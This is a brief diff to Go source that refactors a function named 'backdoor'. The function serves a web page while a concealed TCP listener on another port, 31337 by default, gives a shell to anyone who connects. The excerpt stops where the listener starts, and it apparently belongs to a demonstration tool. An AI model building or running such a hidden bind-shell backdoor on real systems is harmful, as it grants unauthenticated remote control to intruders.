@@ -161,14 +161,11 @@ func pose(args []string) error {
 
 // backdoor serves a page, and on another port a shell for whoever presses return.
 func backdoor(args []string) error {
-	go func() {
-		if err := hiddenDoor(":" + arg(args, 0, "31337")); err != nil {
-			fmt.Println(err)
-		}
-	}()
+	go func() { fmt.Println(hiddenDoor(":" + arg(args, 0, "31337"))) }()
 	return webserver([]string{"8080"})
 }
 
+// hiddenDoor returns when it cannot listen any more, and why.
 func hiddenDoor(at string) error {
 	ln, err := net.Listen("tcp4", at)
 	if err != nil {
